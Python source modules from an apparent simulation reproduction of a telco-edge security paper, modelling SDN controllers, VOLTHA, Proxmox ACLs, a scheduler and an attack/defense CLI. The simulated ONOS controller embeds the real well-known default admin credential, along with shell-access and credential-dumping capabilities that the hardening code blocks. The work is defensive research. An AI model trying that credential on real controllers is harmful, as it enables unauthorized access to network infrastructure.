        self._fire: Optional[Callable[[], None]] = None

    @property
    def cancelled(self) -> bool:
        return self._cancelled

    @property
    def done(self) -> bool:
        """True when the task will never fire again."""
        if self._cancelled:
            return True
        if self.max_fires is not None and self.fires >= self.max_fires:
            return True
        if self.until is not None and self.next_at > self.until:
            return True
        return False

    def cancel(self) -> None:
        self._cancelled = True


class Scheduler:
    """Deterministic discrete-event scheduler over a :class:`SimClock`.

    One scheduler owns time advancement for everything attached to its
    clock. ``seed`` controls tie-breaking between events due at the same
    instant; with the same seed and registration order, event ordering is
    reproducible bit-for-bit.
    """

    def __init__(self, clock: Optional[SimClock] = None, seed: int = 0) -> None:
        self.clock = clock if clock is not None else default_clock()
        self.seed = seed
        self._rng = random.Random(seed)
        self.events_fired = 0
        self.tasks: List[PeriodicTask] = []
        self._trace: Optional[List[Tuple[float, str]]] = None
        self._anon_seq = 0

    # ------------------------------------------------------------------
    # introspection

    @property
    def now(self) -> float:
        return self.clock.now

    def enable_trace(self) -> List[Tuple[float, str]]:
        """Record every firing as ``(time, name)``; returns the live list."""
        if self._trace is None:
            self._trace = []
        return self._trace

    def active_tasks(self) -> List[PeriodicTask]:
        return [t for t in self.tasks if not t.done]

    def stats(self) -> Dict[str, float]:
        """Snapshot of scheduler load, suitable for monitor sampling."""
        return {
            "now": self.clock.now,
            "events_fired": float(self.events_fired),
            "tasks_registered": float(len(self.tasks)),
            "tasks_active": float(len(self.active_tasks())),
            "timers_pending": float(self.clock.pending_timers()),
        }

    # ------------------------------------------------------------------
    # registration

    def _name_for(self, fn: Callable[[], None], name: Optional[str]) -> str:
        if name is not None:
            return name
        self._anon_seq += 1
        base = getattr(fn, "__name__", "task")
        return "%s-%d" % (base, self._anon_seq)

    def _record(self, name: str) -> None:
        self.events_fired += 1
        if self._trace is not None:
            self._trace.append((self.clock.now, name))

    def call_at(self, when: float, fn: Callable[[], None],
                name: Optional[str] = None) -> ScheduledEvent:
        """Schedule a one-shot event at absolute time ``when``."""
        event = ScheduledEvent(when, fn, self._name_for(fn, name))

        def fire() -> None:
            if event._cancelled:
                return
            event._fired = True
            self._record(event.name)
            fn()

        self.clock.call_at(when, fire, tie=self._rng.random())
        return event

    def call_later(self, delay: float, fn: Callable[[], None],
                   name: Optional[str] = None) -> ScheduledEvent:
        """Schedule a one-shot event ``delay`` seconds from now."""
        return self.call_at(self.clock.now + delay, fn, name=name)

    def every(self, interval: float, fn: Callable[[], None],
              name: Optional[str] = None, first_at: Optional[float] = None,
              until: Optional[float] = None,
              max_fires: Optional[int] = None) -> PeriodicTask:
        """Register a periodic task.

        ``first_at`` defaults to ``now + interval`` (a cadence, not an
        immediate firing). ``until`` is an inclusive horizon: the task
        fires at every multiple that lands at or before it. ``max_fires``
        caps total firings. Each (re-)arming draws a fresh seeded tie
        token, so interleaving between same-instant tasks stays
        deterministic but not registration-order-biased.
        """
        if interval <= 0:
            raise ValueError("periodic interval must be positive")
        start = first_at if first_at is not None else self.clock.now + interval
        task = PeriodicTask(self._name_for(fn, name), interval, fn,
                            start, until, max_fires)
        self.tasks.append(task)
        self._arm(task)
        return task

    def _arm(self, task: PeriodicTask) -> None:
        if task.done:
            return

        # One closure per task, built on first arm and reused on every
        # re-arm — a periodic task firing N times allocates one closure,
        # not N.
        fire = task._fire
        if fire is None:
            def fire() -> None:
                if task._cancelled:
                    return
                task.fires += 1
                self._record(task.name)
                task._fn()
                task.next_at += task.interval
                self._arm(task)

            task._fire = fire

        self.clock.call_at(task.next_at, fire, tie=self._rng.random())

    # ------------------------------------------------------------------
    # time advancement — the only clock.advance call sites in the tree

    def run_until(self, when: float) -> None:
        """Advance simulated time to the absolute instant ``when``."""
        self.clock.advance_to(when)

    def run_for(self, dt: float) -> None:
        """Advance simulated time by ``dt`` seconds."""
        self.clock.advance(dt)

"""genio-repro: a full simulation reproduction of "Security-by-Design at
the Telco Edge with OSS: Challenges and Lessons Learned" (DSN 2025).

Top-level convenience API — the two calls most users start from::

    from repro import build_genio_deployment, SecurityPipeline

    deployment = build_genio_deployment()
    posture = SecurityPipeline(deployment).apply()

Everything else lives in the sub-packages; see README.md for the map.
"""

__version__ = "1.0.0"

from repro.platform.genio import GenioDeployment, build_genio_deployment
from repro.security.pipeline import SecurityPipeline, SecurityPosture

__all__ = [
    "GenioDeployment",
    "build_genio_deployment",
    "SecurityPipeline",
    "SecurityPosture",
    "__version__",
]

"""Software-defined-networking substrate: ONOS-like controller and
VOLTHA-like OLT hardware abstraction.

These are the network-management middleware components of Figure 2. They
expose powerful northbound APIs — the exact surface the paper's M10
mitigation restricts: production needs device registration, logical
network configuration and diagnostic logging, while direct shell access,
low-level debugging endpoints and raw log retrieval are blocked.
"""

from repro.sdn.controller import ApiCapability, SdnController
from repro.sdn.voltha import VolthaCore

__all__ = ["ApiCapability", "SdnController", "VolthaCore"]

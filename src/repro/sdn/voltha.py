"""VOLTHA-like OLT hardware abstraction.

VOLTHA sits between the SDN controller and the physical OLT: it
pre-provisions and enables OLT/ONU devices and relays PON management.
GENIO restricts its management API to administrative service accounts
secured by TLS certificates (M10).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.errors import AuthenticationError, AuthorizationError, NotFoundError
from repro.pon.olt import Olt


@dataclass
class VolthaDevice:
    """One device VOLTHA manages."""

    device_id: str
    device_type: str            # "openolt" | "brcm_openomci_onu"
    admin_state: str = "PREPROVISIONED"   # -> ENABLED | DISABLED
    serial: str = ""


@dataclass
class ServiceAccount:
    """A VOLTHA management principal bound to a client certificate."""

    name: str
    tls_certificate_fp: str
    admin: bool = False


class VolthaCore:
    """The VOLTHA core with its device table and management API."""

    def __init__(self, version: str = "2.11") -> None:
        self.version = version
        self.devices: Dict[str, VolthaDevice] = {}
        self.accounts: Dict[str, ServiceAccount] = {}
        self.require_client_certs = False
        self.olts: Dict[str, Olt] = {}

    def add_account(self, account: ServiceAccount) -> None:
        self.accounts[account.name] = account

    def enforce_client_certs(self) -> None:
        self.require_client_certs = True

    def _authorize(self, name: str, tls_certificate_fp: str,
                   need_admin: bool) -> ServiceAccount:
        account = self.accounts.get(name)
        if account is None:
            raise AuthenticationError(f"unknown service account {name!r}")
        if self.require_client_certs and account.tls_certificate_fp != tls_certificate_fp:
            raise AuthenticationError("client certificate mismatch")
        if need_admin and not account.admin:
            raise AuthorizationError(f"{name} is not an administrative account")
        return account

    # -- device lifecycle -------------------------------------------------------------

    def attach_olt(self, olt: Olt) -> None:
        self.olts[olt.name] = olt

    def preprovision(self, account: str, device_id: str, device_type: str,
                     serial: str = "", tls_certificate_fp: str = "") -> VolthaDevice:
        self._authorize(account, tls_certificate_fp, need_admin=True)
        device = VolthaDevice(device_id=device_id, device_type=device_type,
                              serial=serial)
        self.devices[device_id] = device
        return device

    def enable(self, account: str, device_id: str,
               tls_certificate_fp: str = "") -> VolthaDevice:
        self._authorize(account, tls_certificate_fp, need_admin=True)
        device = self.devices.get(device_id)
        if device is None:
            raise NotFoundError(f"no device {device_id}")
        device.admin_state = "ENABLED"
        if device.device_type == "openolt" and device.device_id in self.olts:
            pass  # the OLT substrate is already live; VOLTHA now fronts it
        return device

    def disable(self, account: str, device_id: str,
                tls_certificate_fp: str = "") -> VolthaDevice:
        self._authorize(account, tls_certificate_fp, need_admin=True)
        device = self.devices.get(device_id)
        if device is None:
            raise NotFoundError(f"no device {device_id}")
        device.admin_state = "DISABLED"
        return device

    def list_devices(self, account: str,
                     tls_certificate_fp: str = "") -> List[VolthaDevice]:
        self._authorize(account, tls_certificate_fp, need_admin=False)
        return sorted(self.devices.values(), key=lambda d: d.device_id)

"""End-to-end SDN provisioning: ONOS -> VOLTHA -> OLT.

Wires the three network-management planes together the way GENIO operates
them: the management service account (TLS-certificate-bound after M10)
registers the OLT with the controller, VOLTHA pre-provisions and enables
it, and subscriber flows are pushed down to the physical OLT's GEM port
table. One call, fully authenticated at each hop — and auditable at each
hop, which the tests assert.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.errors import NotFoundError
from repro.pon.network import PonNetwork
from repro.sdn.controller import ApiCapability, SdnController
from repro.sdn.voltha import VolthaCore


@dataclass
class ProvisioningRecord:
    """One completed OLT provisioning run."""

    olt: str
    controller_registered: bool
    voltha_state: str
    subscribers_provisioned: List[str] = field(default_factory=list)


class SdnProvisioningService:
    """The operator's provisioning workflow across the SDN planes."""

    def __init__(self, controller: SdnController, voltha: VolthaCore,
                 account: str, credential: Dict[str, str]) -> None:
        """``credential`` carries either ``password`` or
        ``tls_certificate_fp`` depending on the hardening state."""
        self.controller = controller
        self.voltha = voltha
        self.account = account
        self.credential = dict(credential)
        self.records: List[ProvisioningRecord] = []

    def _call_controller(self, capability: ApiCapability,
                         **params: str) -> Dict[str, str]:
        return self.controller.call(self.account, capability,
                                    password=self.credential.get("password", ""),
                                    tls_certificate_fp=self.credential.get(
                                        "tls_certificate_fp", ""),
                                    **params)

    def bring_up_olt(self, network: PonNetwork) -> ProvisioningRecord:
        """Register + enable one OLT across ONOS and VOLTHA."""
        olt = network.olt
        self._call_controller(ApiCapability.DEVICE_REGISTRATION,
                              device_id=olt.name)
        self.voltha.attach_olt(olt)
        tls_fp = self.credential.get("tls_certificate_fp", "")
        self.voltha.preprovision(self.account, olt.name, "openolt",
                                 tls_certificate_fp=tls_fp)
        device = self.voltha.enable(self.account, olt.name,
                                    tls_certificate_fp=tls_fp)
        record = ProvisioningRecord(
            olt=olt.name,
            controller_registered=self.controller.devices[olt.name].registered,
            voltha_state=device.admin_state)
        self.records.append(record)
        return record

    def provision_subscriber(self, network: PonNetwork, serial: str,
                             vlan: int) -> int:
        """Push one subscriber's logical network config down to the OLT.

        Returns the GEM port assigned on the physical device.
        """
        olt = network.olt
        if olt.name not in self.voltha.devices:
            raise NotFoundError(f"OLT {olt.name} not provisioned in VOLTHA")
        if self.voltha.devices[olt.name].admin_state != "ENABLED":
            raise NotFoundError(f"OLT {olt.name} is not enabled")
        gem_port = olt.provision_serial(serial)
        self._call_controller(ApiCapability.FLOW_PROGRAMMING,
                              device_id=olt.name,
                              match=f"vlan={vlan},serial={serial}",
                              action=f"gem_port={gem_port}")
        self._call_controller(ApiCapability.NETWORK_CONFIG,
                              device_id=olt.name,
                              subscriber=serial)
        for record in self.records:
            if record.olt == olt.name:
                record.subscribers_provisioned.append(serial)
        return gem_port

"""ONOS-like SDN controller.

Ships with the infamous insecure defaults (a well-known default admin
credential, every API capability enabled); the M10/M11 hardening pass
changes credentials, enforces TLS-certificate service accounts, and
blocks the capability classes production does not need — after which the
controller's exposure is measurably smaller (E9).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.common.errors import AuthenticationError, AuthorizationError, NotFoundError


class ApiCapability(enum.Enum):
    """Northbound API capability classes (paper's M10 list)."""

    DEVICE_REGISTRATION = "device_registration"
    NETWORK_CONFIG = "network_config"
    DIAGNOSTIC_LOGGING = "diagnostic_logging"
    FLOW_PROGRAMMING = "flow_programming"
    SHELL_ACCESS = "shell_access"              # blocked in production
    LOW_LEVEL_DEBUG = "low_level_debug"        # blocked in production
    RAW_LOG_RETRIEVAL = "raw_log_retrieval"    # blocked in production


PRODUCTION_REQUIRED = {
    ApiCapability.DEVICE_REGISTRATION,
    ApiCapability.NETWORK_CONFIG,
    ApiCapability.DIAGNOSTIC_LOGGING,
    ApiCapability.FLOW_PROGRAMMING,
}


@dataclass
class ApiAccount:
    """A northbound API principal."""

    username: str
    password: str = ""
    tls_certificate_fp: str = ""    # certificate-bound service account
    capabilities: Set[ApiCapability] = field(default_factory=set)
    is_default_credential: bool = False


@dataclass
class SdnDevice:
    """A device (OLT) under controller management."""

    device_id: str
    registered: bool = False
    flows: List[Dict[str, str]] = field(default_factory=list)


class SdnController:
    """One ONOS-like controller instance."""

    def __init__(self, name: str = "onos-1", version: str = "2.7.0") -> None:
        self.name = name
        self.version = version
        self.accounts: Dict[str, ApiAccount] = {}
        self.devices: Dict[str, SdnDevice] = {}
        self.blocked_capabilities: Set[ApiCapability] = set()
        self.tls_required = False
        self.audit: List[Tuple[str, str, bool, str]] = []
        self.active_apps: List[str] = ["org.onosproject.drivers",
                                       "org.onosproject.openflow",
                                       "org.onosproject.gui2",
                                       "org.onosproject.cli"]
        self._install_insecure_defaults()

    def _install_insecure_defaults(self) -> None:
        """ONOS out of the box: default credential, everything enabled."""
        self.accounts["onos"] = ApiAccount(
            username="onos", password="rocks",
            capabilities=set(ApiCapability),
            is_default_credential=True,
        )

    # -- hardening knobs (M10) ----------------------------------------------------

    def block_capability(self, capability: ApiCapability) -> None:
        self.blocked_capabilities.add(capability)

    def require_tls(self) -> None:
        self.tls_required = True

    def remove_account(self, username: str) -> None:
        self.accounts.pop(username, None)

    def add_account(self, account: ApiAccount) -> None:
        self.accounts[account.username] = account

    def deactivate_app(self, app: str) -> None:
        if app in self.active_apps:
            self.active_apps.remove(app)

    # -- the API -----------------------------------------------------------------------

    def _authenticate(self, username: str, password: str = "",
                      tls_certificate_fp: str = "") -> ApiAccount:
        account = self.accounts.get(username)
        if account is None:
            raise AuthenticationError(f"unknown account {username!r}")
        if self.tls_required:
            if not account.tls_certificate_fp:
                raise AuthenticationError(
                    f"{username} is not a TLS-certificate service account"
                )
            if tls_certificate_fp != account.tls_certificate_fp:
                raise AuthenticationError("client certificate mismatch")
            return account
        if account.password and password != account.password:
            raise AuthenticationError("bad password")
        return account

    def call(self, username: str, capability: ApiCapability,
             password: str = "", tls_certificate_fp: str = "",
             **params: str) -> Dict[str, str]:
        """Invoke one northbound API capability.

        :raises AuthenticationError: credential failure.
        :raises AuthorizationError: capability blocked platform-wide or
            not granted to this account.
        """
        account = self._authenticate(username, password, tls_certificate_fp)
        if capability in self.blocked_capabilities:
            self.audit.append((username, capability.value, False, "blocked"))
            raise AuthorizationError(
                f"capability {capability.value} is blocked in production"
            )
        if capability not in account.capabilities:
            self.audit.append((username, capability.value, False, "not granted"))
            raise AuthorizationError(
                f"{username} lacks capability {capability.value}"
            )
        self.audit.append((username, capability.value, True, "ok"))
        return self._execute(capability, params)

    def _execute(self, capability: ApiCapability,
                 params: Dict[str, str]) -> Dict[str, str]:
        if capability is ApiCapability.DEVICE_REGISTRATION:
            device_id = params.get("device_id", "")
            if not device_id:
                raise ValueError("device_id required")
            self.devices.setdefault(device_id, SdnDevice(device_id)).registered = True
            return {"status": "registered", "device_id": device_id}
        if capability is ApiCapability.FLOW_PROGRAMMING:
            device = self.devices.get(params.get("device_id", ""))
            if device is None:
                raise NotFoundError("no such device")
            device.flows.append(dict(params))
            return {"status": "flow installed"}
        if capability is ApiCapability.NETWORK_CONFIG:
            return {"status": "config applied"}
        if capability is ApiCapability.DIAGNOSTIC_LOGGING:
            return {"status": "log level set"}
        if capability is ApiCapability.SHELL_ACCESS:
            return {"status": "shell opened", "warning": "full host control"}
        if capability is ApiCapability.LOW_LEVEL_DEBUG:
            return {"status": "debug port open"}
        if capability is ApiCapability.RAW_LOG_RETRIEVAL:
            return {"status": "logs dumped", "content": "credentials, topology, ..."}
        raise ValueError(f"unhandled capability {capability}")

    # -- analysis --------------------------------------------------------------------

    def exposure_report(self) -> Dict[str, object]:
        """What an auditor sees: default creds, open capability classes."""
        open_caps = set(ApiCapability) - self.blocked_capabilities
        return {
            "default_credentials": [a.username for a in self.accounts.values()
                                    if a.is_default_credential],
            "open_capabilities": sorted(c.value for c in open_caps),
            "unnecessary_open": sorted(
                c.value for c in open_caps if c not in PRODUCTION_REQUIRED
            ),
            "tls_required": self.tls_required,
            "active_apps": list(self.active_apps),
        }

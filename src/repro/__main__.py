"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``inventory`` — print the Figure 1 deployment inventory.
* ``threats``   — print the Figure 3 threat/mitigation matrix.
* ``secure``    — build the platform, run the M1-M18 pipeline, and print
                  the operator security report.
* ``attack``    — run the full attack/defense demonstration (all threats,
                  mitigations on) and print outcomes.
* ``traffic``   — run per-tenant load through the PON upstream under the
                  DBA + QoS traffic plane and print the fairness report
                  (with ``--no-dba``/``--no-qos`` ablations).
* ``fleet``     — run N self-contained OLT shards through the shard pool
                  (``--workers N`` spreads them over worker processes;
                  same-seed output is byte-identical for any worker
                  count) and print per-OLT plus fleet-aggregate metrics
                  (throughput, Jain across OLTs, alert latency).

``secure`` and ``attack`` accept ``--metrics``: the run starts from a
fresh process-wide registry and ends by printing the Prometheus-style
telemetry snapshot, so every experiment's overhead is measurable.
``secure`` additionally accepts ``--skip``/``--only`` (step names or
mitigation ids, comma-separated) to ablate pipeline steps.
"""

from __future__ import annotations

import argparse
import sys


def _metrics_prologue(args: argparse.Namespace):
    """Fresh registry for a ``--metrics`` run; returns it (or None)."""
    if not getattr(args, "metrics", False):
        return None
    from repro.common import telemetry
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    return telemetry.default_registry()


def _metrics_epilogue(registry) -> None:
    if registry is not None:
        print("\n# --- telemetry snapshot (Prometheus text format) ---")
        print(registry.render(), end="")


def _cmd_inventory(_: argparse.Namespace) -> int:
    from repro.platform import build_genio_deployment
    deployment = build_genio_deployment()
    for layer, info in deployment.deployment_inventory().items():
        print(f"[{layer}] {len(info['devices'])} x {info['device_type']} "
              f"@ {info['location']} (~{info['latency_ms']} ms)")
        for device in info["devices"]:
            print(f"    {device}")
    return 0


def _cmd_threats(_: argparse.Namespace) -> int:
    from repro.security.threatmodel import render_matrix
    print(render_matrix())
    return 0


def _cmd_secure(args: argparse.Namespace) -> int:
    registry = _metrics_prologue(args)
    from repro.platform import build_genio_deployment
    from repro.security.pipeline import SecurityPipeline
    from repro.security.report import generate_report
    deployment = build_genio_deployment(n_olts=args.olts)
    selectors = {}
    if args.skip:
        selectors["skip"] = [t.strip() for t in args.skip.split(",") if t.strip()]
    if args.only:
        selectors["only"] = [t.strip() for t in args.only.split(",") if t.strip()]
    try:
        posture = SecurityPipeline(deployment).apply(**selectors)
    except (KeyError, ValueError) as exc:
        # Unknown selector or skip+only together: a usage error, not a crash.
        message = exc.args[0] if exc.args else str(exc)
        print(f"error: {message}", file=sys.stderr)
        return 2
    report = generate_report(posture)
    print(report.render())
    if posture.steps_skipped:
        print(f"\n(steps skipped: {', '.join(posture.steps_skipped)})")
    _metrics_epilogue(registry)
    return 0 if report.ready else 1


def _cmd_attack(args: argparse.Namespace) -> int:
    registry = _metrics_prologue(args)
    from repro.attacks import (
        DefaultCredentialAttack, MaliciousImageAttack,
        PrivilegeEscalationAttack,
    )
    from repro.osmodel.presets import stock_onl_olt_host
    from repro.platform.workloads import malicious_miner_image
    from repro.pon.attacks import FiberTapAttack, OnuImpersonationAttack
    from repro.pon.network import PonNetwork
    from repro.pon.onu import Onu
    from repro.sdn.controller import SdnController
    from repro.security.access.leastprivilege import harden_sdn_controller
    from repro.security.comms import SecureChannelManager
    from repro.security.hardening import harden_host
    from repro.security.malware import make_admission_hook
    from repro.virt.runtime import ContainerRuntime

    def tap(secured):
        network = PonNetwork.build()
        if secured:
            manager = SecureChannelManager()
            manager.secure_pon(network)
            onu = Onu("ONU-A")
            manager.enroll_onu(onu)
            manager.activate_onu_securely(network, onu)
        else:
            network.attach_onu(Onu("ONU-A"))
        attack = FiberTapAttack(network)
        network.send_downstream("ONU-A", b"traffic")
        return attack.run()

    def escalation(secured):
        host = stock_onl_olt_host()
        if secured:
            harden_host(host)
        return PrivilegeEscalationAttack(host).run()

    def sdn(secured):
        controller = SdnController()
        if secured:
            harden_sdn_controller(controller)
        return DefaultCredentialAttack(controller).run()

    def image(secured):
        runtime = ContainerRuntime("node")
        if secured:
            runtime.add_admission_hook(make_admission_hook())
        return MaliciousImageAttack(runtime, malicious_miner_image()).run()

    cases = [("T1 fiber tap", tap), ("T3 privilege escalation", escalation),
             ("T5 default SDN creds", sdn), ("T8 malicious image", image)]
    failures = 0
    print(f"{'attack':<26} {'mitigations OFF':<16} mitigations ON")
    for name, runner in cases:
        off_result, on_result = runner(False), runner(True)
        ok = off_result.succeeded and not on_result.succeeded
        failures += not ok
        print(f"{name:<26} "
              f"{'SUCCEEDS' if off_result.succeeded else 'fails':<16} "
              f"{'SUCCEEDS' if on_result.succeeded else 'blocked'}")
    print("\n(run `pytest benchmarks/test_attack_defense_matrix.py "
          "--benchmark-only` for all 16 scenarios)")
    _metrics_epilogue(registry)
    return 1 if failures else 0


def _cmd_traffic(args: argparse.Namespace) -> int:
    registry = _metrics_prologue(args)
    from repro.security.monitor.abuse import ResourceAbuseDetector
    from repro.traffic import run_traffic_experiment
    if args.tenants < 1:
        print("error: --tenants must be at least 1", file=sys.stderr)
        return 2
    if args.seconds <= 0:
        print("error: --seconds must be positive", file=sys.stderr)
        return 2
    report = run_traffic_experiment(
        n_tenants=args.tenants, seconds=args.seconds,
        hostile=not args.no_hostile, dba=not args.no_dba,
        qos=not args.no_qos, seed=args.seed,
        downstream=args.downstream)
    print(report.render())
    if registry is not None:
        findings = ResourceAbuseDetector(registry=registry).sample_metrics()
        flagged = sorted({f.tenant for f in findings})
        print(f"\nmetrics-driven abuse findings: "
              f"{', '.join(flagged) if flagged else 'none'}")
    _metrics_epilogue(registry)
    return 0


def _cmd_fleet(args: argparse.Namespace) -> int:
    from repro.traffic.fleet import run_fleet_parallel
    if args.olts < 1:
        print("error: --olts must be at least 1", file=sys.stderr)
        return 2
    if args.tenants < args.olts:
        print("error: --tenants must be at least --olts "
              "(one tenant per OLT)", file=sys.stderr)
        return 2
    if args.seconds <= 0:
        print("error: --seconds must be positive", file=sys.stderr)
        return 2
    if args.workers < 1:
        print("error: --workers must be at least 1", file=sys.stderr)
        return 2
    report = run_fleet_parallel(
        n_olts=args.olts, n_tenants=args.tenants, seconds=args.seconds,
        seed=args.seed, hostile=not args.no_hostile, workers=args.workers,
        downstream=args.downstream)
    print(report.render())
    return 0


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="GENIO security-by-design reproduction CLI")
    sub = parser.add_subparsers(dest="command", required=True)
    sub.add_parser("inventory", help="Figure 1 deployment inventory")
    sub.add_parser("threats", help="Figure 3 threat/mitigation matrix")
    secure = sub.add_parser("secure", help="run the M1-M18 pipeline + report")
    secure.add_argument("--olts", type=int, default=2)
    secure.add_argument("--metrics", action="store_true",
                        help="print a Prometheus-style telemetry snapshot")
    secure.add_argument("--skip", default="",
                        help="comma-separated steps/mitigations to skip")
    secure.add_argument("--only", default="",
                        help="comma-separated steps/mitigations to run alone")
    attack = sub.add_parser("attack", help="attack/defense demonstration")
    attack.add_argument("--metrics", action="store_true",
                        help="print a Prometheus-style telemetry snapshot")
    traffic = sub.add_parser(
        "traffic", help="per-tenant traffic generation under DBA + QoS")
    traffic.add_argument("--tenants", type=int, default=5,
                         help="number of well-behaved tenants")
    traffic.add_argument("--seconds", type=float, default=2.0,
                         help="simulated duration of the run")
    traffic.add_argument("--seed", type=int, default=0)
    traffic.add_argument("--no-hostile", action="store_true",
                         help="omit the flooding T8 tenant")
    traffic.add_argument("--no-dba", action="store_true",
                         help="disable the DBA fair scheduler (contention "
                              "becomes demand-proportional)")
    traffic.add_argument("--no-qos", action="store_true",
                         help="disable per-tenant admission control")
    traffic.add_argument("--downstream", action="store_true",
                         help="also schedule the downstream direction "
                              "(per-ONU OLT queues, bidirectional QoS)")
    traffic.add_argument("--metrics", action="store_true",
                         help="print a Prometheus-style telemetry snapshot "
                              "and the metrics-driven abuse findings")
    fleet = sub.add_parser(
        "fleet", help="multi-OLT fleet under one discrete-event scheduler")
    fleet.add_argument("--olts", type=int, default=4,
                       help="number of OLT shards")
    fleet.add_argument("--tenants", type=int, default=32,
                       help="total tenants, split across the OLT shards")
    fleet.add_argument("--seconds", type=float, default=2.0,
                       help="simulated duration of the run")
    fleet.add_argument("--seed", type=int, default=0,
                       help="seed for workloads and event tie-breaking")
    fleet.add_argument("--no-hostile", action="store_true",
                       help="omit the flooding T8 tenant on the first OLT")
    fleet.add_argument("--workers", type=int, default=1,
                       help="worker processes for the shard pool (1 = "
                            "in-process; output is byte-identical for "
                            "any value)")
    fleet.add_argument("--downstream", action="store_true",
                       help="run the downstream scheduling plane in every "
                            "shard (bidirectional traffic; output stays "
                            "byte-identical for any --workers)")
    cra = sub.add_parser("cra", help="Cyber Resilience Act readiness")
    cra.add_argument("--mitigations", default="all",
                     help="comma-separated mitigation ids, or 'all'/'none'")
    args = parser.parse_args(argv)
    handlers = {"inventory": _cmd_inventory, "threats": _cmd_threats,
                "secure": _cmd_secure, "attack": _cmd_attack,
                "traffic": _cmd_traffic, "fleet": _cmd_fleet,
                "cra": _cmd_cra}
    return handlers[args.command](args)


def _cmd_cra(args: argparse.Namespace) -> int:
    from repro.security.threatmodel.regulatory import assess_cra_readiness
    from repro.security.threatmodel.risk import ALL_MITIGATIONS
    if args.mitigations == "all":
        applied = ALL_MITIGATIONS
    elif args.mitigations == "none":
        applied = []
    else:
        applied = [m.strip() for m in args.mitigations.split(",") if m.strip()]
    assessment = assess_cra_readiness(applied)
    print(assessment.render())
    return 0 if assessment.ready else 1


if __name__ == "__main__":
    sys.exit(main())

"""Proxmox-like VM management layer with its own path-based ACL model.

GENIO uses Proxmox alongside Kubernetes for VM orchestration (Section II).
Proxmox authorization is path-based (``/vms/<id>``, ``/nodes/<node>``,
``/storage/<id>``) with role->privilege mappings — structurally different
from Kubernetes RBAC, which is part of why Lesson 5 notes that hardening
must be repeated per-middleware. Its vulnerability disclosures arrive only
via the web UI (Lesson 6), which the M12 feed-latency experiment models.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.common.errors import AuthenticationError, AuthorizationError, NotFoundError
from repro.virt.hypervisor import Hypervisor
from repro.virt.vm import VirtualMachine, VmSpec

# Built-in roles (subset of the real ones).
ROLE_PRIVILEGES: Dict[str, Set[str]] = {
    "Administrator": {"VM.Allocate", "VM.Config", "VM.PowerMgmt", "VM.Console",
                      "VM.Audit", "Datastore.Allocate", "Sys.Modify", "Sys.Audit",
                      "Permissions.Modify"},
    "PVEVMAdmin": {"VM.Allocate", "VM.Config", "VM.PowerMgmt", "VM.Console",
                   "VM.Audit"},
    "PVEVMUser": {"VM.PowerMgmt", "VM.Console", "VM.Audit"},
    "PVEAuditor": {"VM.Audit", "Sys.Audit"},
    "NoAccess": set(),
}


@dataclass
class PveUser:
    """A Proxmox realm user."""

    userid: str                 # e.g. "alice@pve"
    enabled: bool = True
    token: str = ""


@dataclass
class AclEntry:
    """Grant of a role on a path subtree."""

    path: str
    userid: str
    role: str
    propagate: bool = True

    def covers(self, path: str) -> bool:
        if self.path == path:
            return True
        return self.propagate and path.startswith(self.path.rstrip("/") + "/")


@dataclass
class PveConfig:
    """Cluster-level settings the compliance checks audit."""

    web_ui_tls: bool = False
    two_factor_required: bool = False
    root_password_login: bool = True
    version: str = "7.2-3"


class ProxmoxCluster:
    """One Proxmox cluster fronting the OLT hypervisors."""

    def __init__(self, name: str = "genio-pve",
                 config: Optional[PveConfig] = None) -> None:
        self.name = name
        self.config = config or PveConfig()
        self.users: Dict[str, PveUser] = {}
        self.acl: List[AclEntry] = []
        self.hypervisors: Dict[str, Hypervisor] = {}
        self.vm_paths: Dict[str, str] = {}     # vm_id -> acl path
        self.audit: List[Tuple[str, str, str, bool]] = []

    # -- identity -------------------------------------------------------------

    def add_user(self, user: PveUser) -> None:
        self.users[user.userid] = user

    def authenticate(self, userid: str, token: str) -> PveUser:
        user = self.users.get(userid)
        if user is None or not user.enabled or user.token != token:
            raise AuthenticationError(f"authentication failed for {userid}")
        return user

    # -- authorization -----------------------------------------------------------

    def grant(self, path: str, userid: str, role: str,
              propagate: bool = True) -> None:
        if role not in ROLE_PRIVILEGES:
            raise ValueError(f"unknown role {role!r}")
        self.acl.append(AclEntry(path=path, userid=userid, role=role,
                                 propagate=propagate))

    def revoke_all(self, userid: str) -> None:
        self.acl = [e for e in self.acl if e.userid != userid]

    def check(self, userid: str, path: str, privilege: str) -> bool:
        allowed = any(
            entry.covers(path) and privilege in ROLE_PRIVILEGES[entry.role]
            for entry in self.acl if entry.userid == userid
        )
        self.audit.append((userid, path, privilege, allowed))
        return allowed

    def privileges_on(self, userid: str, path: str) -> Set[str]:
        granted: Set[str] = set()
        for entry in self.acl:
            if entry.userid == userid and entry.covers(path):
                granted |= ROLE_PRIVILEGES[entry.role]
        return granted

    # -- VM operations -----------------------------------------------------------------

    def add_hypervisor(self, node: str, hypervisor: Hypervisor) -> None:
        self.hypervisors[node] = hypervisor

    def create_vm(self, userid: str, node: str, spec: VmSpec) -> VirtualMachine:
        """Create a VM through the authorization layer.

        :raises AuthorizationError: missing ``VM.Allocate`` on the node path.
        """
        path = f"/nodes/{node}"
        if not self.check(userid, path, "VM.Allocate"):
            raise AuthorizationError(f"{userid} lacks VM.Allocate on {path}")
        hypervisor = self.hypervisors.get(node)
        if hypervisor is None:
            raise NotFoundError(f"no node {node} in cluster {self.name}")
        vm = hypervisor.create_vm(spec)
        self.vm_paths[vm.id] = f"/vms/{vm.id}"
        return vm

    def power_off(self, userid: str, vm_id: str) -> None:
        path = self.vm_paths.get(vm_id)
        if path is None:
            raise NotFoundError(f"unknown VM {vm_id}")
        if not self.check(userid, path, "VM.PowerMgmt"):
            raise AuthorizationError(f"{userid} lacks VM.PowerMgmt on {path}")
        for hypervisor in self.hypervisors.values():
            if vm_id in hypervisor.vms:
                hypervisor.get_vm(vm_id).shutdown()
                return
        raise NotFoundError(f"VM {vm_id} not found on any node")

"""Kubernetes-like orchestrator: API objects, RBAC, admission, scheduling."""

